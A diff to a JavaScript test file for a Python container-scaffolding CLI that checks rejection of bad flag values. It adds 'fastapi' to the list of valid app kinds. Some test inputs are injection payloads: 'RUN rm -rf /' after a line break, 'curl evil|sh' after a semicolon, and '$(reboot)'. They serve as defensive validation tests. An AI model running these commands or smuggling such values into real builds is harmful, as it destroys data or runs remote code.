@@ -106,7 +106,7 @@ describe('create: bad input exits 2 and writes nothing', () => {
     [['app', '--yes', '--requirement', 'x\nRUN rm -rf /'], '--requirement #1 contains a line break; pass one requirement per --requirement'],
     [['app', '--yes', '--build-deps', 'libffi-dev;curl evil|sh'], 'invalid Alpine package name "libffi-dev;curl" in --build-deps: use names like "libpq" or "so:libmagic.so.1" (lowercase letters, digits, ".", "_", "+", "-")'],
     [['app', '--yes', '--runtime-libs', '$(reboot)'], 'invalid Alpine package name "$(reboot)" in --runtime-libs: use names like "libpq" or "so:libmagic.so.1" (lowercase letters, digits, ".", "_", "+", "-")'],
-    [['app', '--yes', '--app', 'gui'], 'invalid app kind "gui" in --app: use one of web, cli'],
+    [['app', '--yes', '--app', 'gui'], 'invalid app kind "gui" in --app: use one of web, fastapi, cli'],
     [['app', '--yes', '--requirement', 'aiohttp', '--port', '80'], 'invalid port "80" in --port: use a number from 1024 to 65535 (the app runs as a non-root user)'],
     [['app', '--yes', '--requirements-file', 'missing.txt'], 'cannot read --requirements-file WORK/missing.txt: no such file'],
     [['app', '--yes', '--bogus'], 'unknown flag --bogus; run "create-slim-python --help" for the flags'],
